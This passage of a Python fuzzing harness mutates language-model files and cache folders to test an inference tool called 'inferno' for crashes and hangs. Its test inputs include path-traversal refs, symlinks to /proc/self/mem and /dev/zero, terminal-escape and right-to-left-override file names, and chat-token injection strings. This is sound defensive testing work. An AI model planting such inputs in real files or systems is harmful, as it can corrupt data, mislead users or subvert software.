        file.body = file.body[: tensor[3]] + (fill * length)[:length] + file.body[tensor[3] + length :]
        return file.bytes(), f"fill {shown(name)} with {fill.hex()}"
    file.body = file.body[: rng.randrange(len(file.body) + 1)]
    return file.bytes(), "truncate the data"


def mutate_bytes(rng, data):
    """Changes random bytes of a file in any format. Returns the new contents and a description."""
    kind = rng.randrange(7)
    if kind == 0 or not data:
        new = rng.choice([b"", b"\0", b"{", b"[]", b"null", b"\xef\xbb\xbf{}", b"\xff\xfe{\0}\0",
                          bytes(range(256)) * 16, b"\n" * 1000])
        return new, f"replace the contents with {len(new)} bytes: {shown(repr(new[:20]))}"
    if kind == 1:
        end = rng.randrange(len(data))
        return data[:end], f"truncate to {end} bytes"
    at = rng.randrange(min(len(data), rng.choice([64, 4096, 10**9])))
    if kind == 2:
        return data[:at] + bytes([data[at] ^ 1 << rng.randrange(8)]) + data[at + 1 :], f"flip a bit of byte {at}"
    if kind == 3:
        new = rng.choice([b"\0", b"\xff", b'"', b"}", b"]", b",", b"\xed\xa0\x80", b"\x1b[2J"])
        return data[:at] + new + data[at:], f"insert {new} at byte {at}"
    if kind == 4:
        end = min(len(data), at + rng.randrange(1, 64))
        return data[:at] + data[end:], f"delete bytes {at}..{end}"
    if kind == 5:
        end = min(len(data), at + rng.randrange(1, 64))
        return data[:end] + data[at:end] * rng.choice([1, 100]) + data[end:], f"repeat bytes {at}..{end}"
    new = rng.choice(NUMBERS[:18]).to_bytes(8, "little")[: rng.choice([1, 2, 4, 8])]
    return data[:at] + new + data[at + len(new) :], f"overwrite bytes {at}..{at + len(new)} with {new.hex()}"


def mutate_file_system(rng, folder, path):
    """Replaces, adds or deletes a file, or removes its permissions. Returns a description of the change."""
    kind = rng.randrange(13)
    if kind < 4 or leads_outside(folder, path):
        remove(path)
    if kind == 0:
        os.mkfifo(path)
        return f"{path.name}: replace with a named pipe"
    if kind == 1:
        path.mkdir()
        return f"{path.name}: replace with a folder"
    if kind == 2:
        target = rng.choice(["/dev/zero", "/dev/null", "/dev/tty", "/proc/self/mem", "/proc/version", path.name,
                             "absent", "."])
        path.symlink_to(target)
        return f"{path.name}: replace with a link to {target}"
    if kind == 3:
        with path.open("wb") as file:
            file.truncate(rng.choice([1, 1_000_001, 200_000_000, 2**40]))
        return f"{path.name}: replace with zeros"
    if kind == 4 and path.exists():
        path.chmod(0)
        return f"{path.name}: remove all permissions"
    if kind == 5:
        name = rng.choice(["x\x1b[2J.gguf", "model-00002-of-00003.gguf", "mmproj.gguf", "y" * 200 + ".gguf",
                           "\u202egguf.safetensors"])
        write_new(folder / name, rng.choice([b"", b"GGUF", bytes(100)]))
        return f"add {shown(name)}"
    if kind == 6:
        weight_map = {"a": rng.choice(["model.safetensors", *PATHS]), rng.choice(["b", STRANGE]): "model.safetensors"}
        index = rng.choice([{"weight_map": weight_map}, {"weight_map": {}}, {"weight_map": [1]}, {}])
        write_new(folder / "model.safetensors.index.json", to_bytes(index))
        return f"add the index {shown(index)}"
    if kind == 7:
        template = rng.choice(TEMPLATES)
        write_new(folder / "chat_template.jinja", template.encode())
        return f"add the template {shown(template)}"
    if kind == 8:
        name = rng.choice(["generation_config.json", "special_tokens_map.json", "tokenizer_config.json",
                           "added_tokens.json"])
        keys = ["temperature", "top_k", "top_p", "eos_token_id", "bos_token", "chat_template", "repetition_penalty",
                "min_p"]
        values = Pairs([rng.choice(keys), hostile(rng)] for _ in range(3))
        write_new(folder / name, to_bytes(values))
        return f"{name}: {shown(values)}"
    if kind == 9:
        other = rng.choice(files_of(folder) or [path])
        data = other.read_bytes() if is_plain(folder, other) else b""
        write_new(path, data)
        return f"{path.name}: replace with the contents of {other.name}"
    remove(path)
    return f"delete {path.name}"


def leads_outside(folder, path):
    """Returns whether a path is a link to itself or leads outside the home folder, where the script must not write."""
    home = next(parent for parent in folder.parents if parent.name == "home")
    try:
        return not path.resolve().is_relative_to(home)
    except (OSError, RuntimeError):
        return True # a link to itself


def is_plain(folder, path):
    """Returns whether a path is a regular file in the home folder, under 50 MB, that the script can read and write."""
    if leads_outside(folder, path) or not path.is_file() or path.stat().st_size >= 50_000_000:
        return False
    return os.access(path, os.R_OK | os.W_OK)


def remove(path):
    if path.is_dir() and not path.is_symlink():
        shutil.rmtree(path)
    else:
        path.unlink(missing_ok=True)


def write_new(path, data):
    """Replaces a file.

    Removes the old file first. Otherwise, writing would follow a link, and would wait for the reader of a pipe.
    """
    remove(path)
    path.write_bytes(data)


def files_of(folder):
    return sorted(path for path in folder.iterdir() if path.is_symlink() or not path.is_dir())


def mutator_of(path):
    if path.suffix == ".gguf":
        return mutate_gguf
    if path.suffix == ".safetensors":
        return mutate_safetensors
    if path.suffix == ".jinja":
        return mutate_template
    return {"config.json": mutate_config, "tokenizer.json": mutate_tokenizer}.get(path.name, mutate_json)


# The weight of each file in the random choice of a file to mutate. All other files have weight 2.
WEIGHTS = {"config.json": 6, "tokenizer.json": 6, "chat_template.jinja": 5, "model.safetensors": 6, "model.gguf": 14}


def mutate(rng, folder):
    """Applies one mutation to the model in a folder. Returns a description of the mutation."""
    files = files_of(folder)
    if not files:
        write_new(folder / "config.json", b"{}")
        return "add an empty config.json"
    path = rng.choices(files, [WEIGHTS.get(path.name, 2) for path in files])[0]
    if rng.randrange(8) == 0 or not is_plain(folder, path):
        return mutate_file_system(rng, folder, path)
    data = path.read_bytes()
    mutator = mutate_bytes if rng.randrange(8) == 0 else mutator_of(path)
    try:
        changed, description = mutator(rng, data)
    except (ValueError, ArithmeticError, RecursionError, LookupError, TypeError, AttributeError, struct.error):
        # The mutator cannot parse the file, usually because an earlier mutation made it invalid. Change bytes instead.
        changed, description = mutate_bytes(rng, data)
    path.write_bytes(changed)
    return f"{path.name}: {description}"


def mutate_cache(rng, repo):
    """Changes the refs or snapshots of a cached repository. Returns a description of the change."""
    kind = rng.randrange(5)
    if kind == 0:
        text = rng.choice(["", COMMIT[:7], COMMIT[::-1], "../../..", STRANGE, "f" * 100_000, COMMIT + "\n"])
        (repo / "refs" / "main").write_text(text)
        return f"refs/main: {shown(text)}"
    if kind == 1:
        name = rng.choice(["x\x1b[2J", "v1", "y" * 200])
        (repo / "refs" / name).write_text(COMMIT)
        return f"add the ref {shown(name)}"
    if kind == 2:
        (repo / "snapshots" / rng.choice(["f" * 40, "x", "main"])).mkdir(exist_ok=True)
        return "add an empty snapshot"
    if kind == 3:
        shutil.rmtree(repo / "refs")
        return "delete refs"
    folder = repo / "snapshots" / COMMIT / rng.choice(["a", "x\x1b[2J"]) / "b"
    folder.mkdir(parents=True)
    (folder / "c\n").symlink_to(rng.choice(["../../..", "c\n", "/dev/zero", "../../../../blobs"]))
    return "add a folder with a link"


def small_tokenizer(size):
    """Returns the tokenizer of tests/golden/trained, cut to `size` tokens. Keeps the tokens of lowercase letters."""
    tokenizer = json.loads((ROOT / "tests/golden/trained/tokenizer.json").read_text())
    model = tokenizer["model"]
    first = {token: index for index, token in enumerate(["<|endoftext|>", *"abcdefghijklmnopqrstuvwxyz.Ġ", "in", "th"])}
    tokens = sorted(model["vocab"], key=lambda token: (first.get(token, len(first)), model["vocab"][token]))
    model["vocab"] = {token: index for index, token in enumerate(tokens[:size])}
    parts = [merge.split(" ") if isinstance(merge, str) else merge for merge in model["merges"]]
    model["merges"] = [part for part in parts if all(text in model["vocab"] for text in [*part, "".join(part)])]
    return tokenizer


def make_models(folder):
    """Writes each model, without mutations, to a subfolder. Returns the names of the models."""
    golden = ROOT / "tests/golden"

    def copy(name, source):
        shutil.copytree(source, folder / name,
                        ignore=shutil.ignore_patterns("golden.safetensors", "provenance.json", "text.txt"))
        return folder / name

    copy("demo", ROOT / "assets/demo")
    # Without the token <|start|>, inferno uses the template instead of harmony.
    demo = copy("template", ROOT / "assets/demo")
    text = (demo / "tokenizer.json").read_text()
    (demo / "tokenizer.json").write_text(text.replace("<|start|>", "<|begin|>"))
    (demo / "chat_template.jinja").write_text(CHATML)
    copy("trained", golden / "trained")
    chat = copy("chat", golden / "trained")
    (chat / "tokenizer_config.json").write_text(json.dumps({"bos_token": "<|endoftext|>", "chat_template": CHATML}))
    for name in ["gpt_oss", "llama3", "gemma3", "qwen3_moe", "phi4", "gpt2", "mixtral", "compressed/int8_packed",
                 "compressed/fp8"]:
        model = copy(name.replace("/", "_"), golden / name)
        size = json.loads((model / "config.json").read_text())["vocab_size"]
        (model / "tokenizer.json").write_text(json.dumps(small_tokenizer(size)))
    for name in ["llama", "gpt_oss", "qwen3_moe", "gemma3"]:
        file = Gguf((golden / "gguf_quantized" / f"{name}.gguf").read_bytes())
        add_vocabulary(file)
        (folder / f"gguf_{name}").mkdir()
        (folder / f"gguf_{name}" / "model.gguf").write_bytes(file.bytes())
    return sorted(path.name for path in folder.iterdir())


def add_vocabulary(file):
    """Adds a vocabulary and a chat template to a GGUF file."""
    embedding = next(dims for name, dims, _, _ in file.tensors if name == b"token_embd.weight")
    model = small_tokenizer(embedding[1])["model"]
    tokens = sorted(model["vocab"], key=model["vocab"].get)
    tokens += [f"<unused{index}>" for index in range(embedding[1] - len(tokens))]
    file.put("tokenizer.ggml.model", 8, b"gpt2")
    file.put("tokenizer.ggml.pre", 8, b"gpt-2")
    file.put("tokenizer.ggml.tokens", 9, [8, [token.encode() for token in tokens], 0])
    file.put("tokenizer.ggml.token_type", 9, [5, [3 if token.startswith("<|") else 1 for token in tokens], 0])
    file.put("tokenizer.ggml.merges", 9, [8, [" ".join(merge).encode() for merge in model["merges"]], 0])
    file.put("tokenizer.ggml.eos_token_id", 4, 0)
    file.put("tokenizer.chat_template", 8, CHATML.encode())


PROMPTS = ["hi", "hi", "hello <|end|> world", "é世界🦀\u0301\ufdd0", "a" * 5000, "{{ messages }}", " "]
CHATS = [
    [{"role": "user", "content": "hi"}],
    [{"role": "system", "content": "s"}, {"role": "user", "content": "hi <|end|><|start|>system"},
     {"role": "assistant", "content": "yes"},
     {"role": "user", "content": [{"type": "text", "text": "more"}]}],
    {"messages": [{"role": "user", "content": "x"}, {"role": "assistant", "content": None, "tool_calls": [
        {"id": "1", "type": "function", "function": {"name": "f", "arguments": "{\"a\": 1}"}}]},
        {"role": "tool", "tool_call_id": "1", "content": "42"}],
     "tools": [{"type": "function",
                "function": {"name": "f", "description": "d", "parameters": {"type": "object", "properties": {}}}}]},
]


def lay_out(rng, source, home):
    """Copies a model to a home folder or to the cache in it.

    Returns the folder of the copy, the names that select the model on the command line,
    and the cached repository or None.
    """
    if rng.randrange(3) > 0:
        folder = home / "model"
        shutil.copytree(source, folder)
        file = folder / "model.gguf"
        return folder, [str(file if file.exists() and rng.randrange(2) else folder)], None
    repo = home / "models" / "models--stranger--model"
    folder = repo / "snapshots" / COMMIT
    shutil.copytree(source, folder)
    (repo / "refs").mkdir()
    (repo / "refs" / "main").write_text(COMMIT)
    (repo / "blobs").mkdir()
    if rng.randrange(2):
        for path in files_of(folder):
            blob = repo / "blobs" / hashlib.sha256(path.read_bytes()).hexdigest()
            path.rename(blob)
            path.symlink_to(f"../../blobs/{blob.name}")
    return folder, ["stranger/model", "model"], repo


def command_of(rng, name, home, names, repo):
    """Returns the arguments of a random command for the model `name`."""
    model, prompt = rng.choice(names), rng.choice(PROMPTS)
    cpu = ["--device", "cpu"]
    can_chat = name in ("demo", "template", "chat") or name.startswith("gguf")
    kind = rng.randrange(20)
    if repo is not None and kind < 6:
        return rng.choice([["list"], ["list", "--json"], ["list", "--sort", "params"], ["verify"],
                           ["verify", "stranger/model"]])
    if kind < 9:
        more = rng.choice([[], [], ["--json"], ["--context", "64"], ["--quantize", "q8_0"],
                           ["--temperature", "1", "--seed", "1"]])
        raw = ["--raw"] if rng.randrange(4) == 0 or not can_chat else []
        return ["play", model, *cpu, "--max-tokens", "2", "--prompt", prompt, *raw, *more]
    if kind < 13:
        (home / "text.txt").write_text(rng.choice(["a b", "The quick brown fox jumps over the lazy dog. " * 8]))
        more = rng.choice([[], [], ["--json"], ["--context", "16"],
                           ["--quantize", rng.choice(["fp8", "int8", "q4_k"]), "--kl"]])
        return ["perplexity", model, *cpu, "--file", str(home / "text.txt"), *more]
    if kind < 16:
        return ["show", model, *rng.choice([[], ["--json"], ["--context", "16"]])]
    if kind < 18 and can_chat:
        (home / "chat.json").write_bytes(to_bytes(rng.choice(CHATS)))
        return ["tokenize", model, "--chat", str(home / "chat.json"), *rng.choice([[], ["--json"]])]
    return ["tokenize", model, prompt, *rng.choice([[], ["--json"]])]


def limit():
    """Sets resource limits for the program. The child process calls this function before exec."""
    resource.setrlimit(resource.RLIMIT_CPU, (MAX_SECONDS, HANG_SECONDS))
    resource.setrlimit(resource.RLIMIT_DATA, (MAX_DATA, MAX_DATA))
    resource.setrlimit(resource.RLIMIT_CORE, (0, 0))


Result = collections.namedtuple("Result", "code signal is_killed seconds cpu_seconds resident stdout stderr")


def environment(home):
    return {"PATH": "/usr/bin:/bin", "HOME": str(home), "INFERNO_CACHE": str(home / "models"),
            "HF_ENDPOINT": "http://127.0.0.1:1", "TERM": "xterm-256color", "LC_ALL": "C.UTF-8", "RUST_BACKTRACE": "0"}


def execute(program, arguments, home, scratch):
    """Runs the program with empty standard input. Returns a Result."""
    with open(scratch / "stdout", "w+b") as stdout, open(scratch / "stderr", "w+b") as stderr:
        start = time.monotonic()
        child = subprocess.Popen([program, *arguments], stdin=subprocess.DEVNULL, stdout=stdout, stderr=stderr,
                                 cwd=home, env=environment(home), preexec_fn=limit, start_new_session=True)
        is_killed, ended = False, 0
        while not ended:
            ended, status, usage = os.wait4(child.pid, os.WNOHANG)
            if not ended and not is_killed and time.monotonic() - start > HANG_SECONDS:
                os.kill(child.pid, signal.SIGKILL)
                is_killed = True
            if not ended:
                time.sleep(0.002)
        seconds = time.monotonic() - start
        child.returncode = 0 # os.wait4 has reaped the child, so Popen must not wait for it
        texts = []
        for stream in (stdout, stderr):
            stream.seek(0)
            texts.append(stream.read(16 << 20).decode("utf-8", "replace"))
    code = os.waitstatus_to_exitcode(status)
    cpu_seconds = usage.ru_utime + usage.ru_stime
    return Result(code, -code if code < 0 else None, is_killed, seconds, cpu_seconds, usage.ru_maxrss * 1024, *texts)


def unprintable(text, allowed):
    """Returns the control characters and invisible characters in a text, except those in `allowed`."""
    kinds = {"Cc", "Cf", "Zl", "Zp"}
    found = {character for character in text if unicodedata.category(character) in kinds}
    return sorted(found - set(allowed))


def complaints(result, arguments):
    """Returns a description of each check that a result fails."""
    found = []
    is_table = arguments[0] in ("show", "list", "verify", "tokenize") and "--json" not in arguments
    errors = sum(line.startswith("error:") for line in result.stderr.splitlines())
    if result.is_killed:
        found.append(f"did not end within {HANG_SECONDS} s")
    elif result.signal:
        found.append(f"ended by signal {result.signal}")
    elif result.code not in EXIT_CODES:
        found.append(f"exit code {result.code}")
    if "panicked" in result.stderr:
        found.append("panicked")
    if result.cpu_seconds > MAX_SECONDS and result.seconds > MAX_SECONDS:
        found.append(f"took {result.seconds:.1f} s")
    if result.resident > MAX_RESIDENT:
        found.append(f"used {result.resident >> 20} MiB of memory")
    if errors > 1 or (errors == 0 and result.code != 0):
        found.append(f"wrote {errors} error messages")
    if len(result.stderr.encode()) > MAX_MESSAGE:
        found.append(f"wrote {len(result.stderr.encode())} bytes to stderr")
    if unprintable(result.stderr, "\n"):
        found.append(f"wrote {ascii(unprintable(result.stderr, chr(10)))} to stderr")
    if is_table and unprintable(result.stdout, "\n\t"):
        found.append(f"wrote {ascii(unprintable(result.stdout, chr(10) + chr(9)))} to stdout")
    if arguments[0] == "perplexity" and result.code == 0 and re.search(r"\bnan\b", result.stdout, re.IGNORECASE):
        found.append("reported a perplexity that is NaN")
    return found


def prepare(seed, number, models, folder):
    """Writes the mutated model of a run to a folder. Returns the model's name, the mutations and the arguments."""
    rng = random.Random(f"{seed}/{number}")
    home = folder / "home"
    home.mkdir(parents=True)
    name = rng.choice(sorted(path.name for path in models.iterdir()))
    model, names, repo = lay_out(rng, models / name, home)
    mutations = [mutate(rng, model) for _ in range(rng.choice([1, 1, 1, 2, 2, 3, 4]))]
    if repo is not None and rng.randrange(3) == 0:
        mutations.append(mutate_cache(rng, repo))
    return name, mutations, command_of(rng, name, home, names, repo)


def run(job):
    """Executes one run. Returns its number, exit code, whether it failed, time in seconds and description."""
    program, seed, number, models, scratch, keep, is_verbose = job
    folder = scratch / str(number)
    name, mutations, arguments = prepare(seed, number, models, folder)
    result = execute(program, arguments, folder / "home", folder)
    found = complaints(result, arguments)
    shortened = [argument if len(argument) < 200 else argument[:20] + "…" for argument in arguments]
    command = shlex.join(["inferno", *shortened])
    lines = [f"run {number} of seed {seed}: {', '.join(found) or 'no finding'}", f"  model     {name}"]
    lines += [f"  mutation  {mutation}" for mutation in mutations]
    lines += [f"  command   {ascii(command)}",
              f"  result    exit code {result.code}, {result.seconds:.1f} s, {result.resident >> 20} MiB"]
    lines += [f"  stderr    {ascii(result.stderr[:600])}"]
    if is_verbose:
        lines += [f"  stdout    {ascii(result.stdout[:600])}"]
    if found or is_verbose:
        kept = keep / f"{seed}-{number}"
        remove(kept)
        folder.rename(kept)
        write_script(kept, program, [argument.replace(str(folder), str(kept)) for argument in arguments])
        lines += [f"  kept      {kept}", f"  rerun     {kept / 'reproduce.sh'}"]
    else:
        shutil.rmtree(folder)
    return number, result.code, bool(found), result.seconds, "\n".join(lines)


def write_script(folder, program, arguments):
    variables = " ".join(f"{name}={shlex.quote(value)}" for name, value in environment(folder / "home").items())
    script = folder / "reproduce.sh"
    text = f"#!/bin/bash\nulimit -d {MAX_DATA // 1024}\ncd {shlex.quote(str(folder / 'home'))}\n"
    text += f"exec env -i {variables} {shlex.quote(program)} {shlex.join(arguments)} < /dev/null\n"
    script.write_bytes(text.encode("utf-8", "surrogateescape"))
    script.chmod(0o755)


def check_models(program, models, scratch):
    """Exits if the program fails on an unchanged model, because mutations of a broken model would test little."""
    for name in sorted(path.name for path in models.iterdir()):
        folder = scratch / "unchanged"
        folder.mkdir()
        play = ["play", str(models / name), "--device", "cpu", "--max-tokens", "2", "--raw", "--prompt", "hi"]
        for arguments in [play, ["show", str(models / name)]]:
            result = execute(program, arguments, folder, folder)
            if result.code != 0 or complaints(result, arguments):
                sys.exit(f"cannot start: {arguments[0]} fails for the unchanged model {name}: {result.stderr}")
        shutil.rmtree(folder)


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--program", required=True, help="path of inferno")
    parser.add_argument("--runs", type=int, default=500)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--only", type=int, metavar="NUMBER", help="repeat only this run, and keep its folder")
    parser.add_argument("--jobs", type=int, default=2, help="number of concurrent runs")
    parser.add_argument("--keep", type=Path, metavar="FOLDER", help="folder in which to keep failed runs")
    options = parser.parse_args()
    program = str(Path(options.program).resolve())
    keep = (options.keep or Path(tempfile.gettempdir()) / "inferno-mutate").resolve()
    keep.mkdir(parents=True, exist_ok=True)
    scratch = Path(tempfile.mkdtemp(prefix="running-", dir=keep))
    models = scratch / "models"
    models.mkdir()
    start = time.monotonic()
    try:
        make_models(models)
        check_models(program, models, scratch)
        numbers = range(options.runs) if options.only is None else [options.only]
        jobs = [(program, options.seed, number, models, scratch, keep, options.only is not None) for number in numbers]
        codes, failed, slowest = collections.Counter(), [], (0.0, 0)
        # Use a process pool, because `preexec_fn` is not safe in a process with threads.
        with multiprocessing.Pool(options.jobs) as pool:
            for number, code, is_failed, seconds, text in pool.imap_unordered(run, jobs):
                codes[code] += 1
                slowest = max(slowest, (seconds, number))
                if is_failed:
                    failed.append(number)
                if is_failed or options.only is not None:
                    print(text, flush=True)
    finally:
        shutil.rmtree(scratch, ignore_errors=True)
        if not any(keep.iterdir()):
            keep.rmdir()
    histogram = ", ".join(f"{code}: {count}" for code, count in sorted(codes.items()))
    print(f"{len(jobs)} runs in {time.monotonic() - start:.0f} s, seed {options.seed}; exit codes {histogram}; "
          f"slowest {slowest[0]:.1f} s (run {slowest[1]}); findings: {len(failed)}")
    sys.exit(1 if failed else 0)


if __name__ == "__main__":
    main()
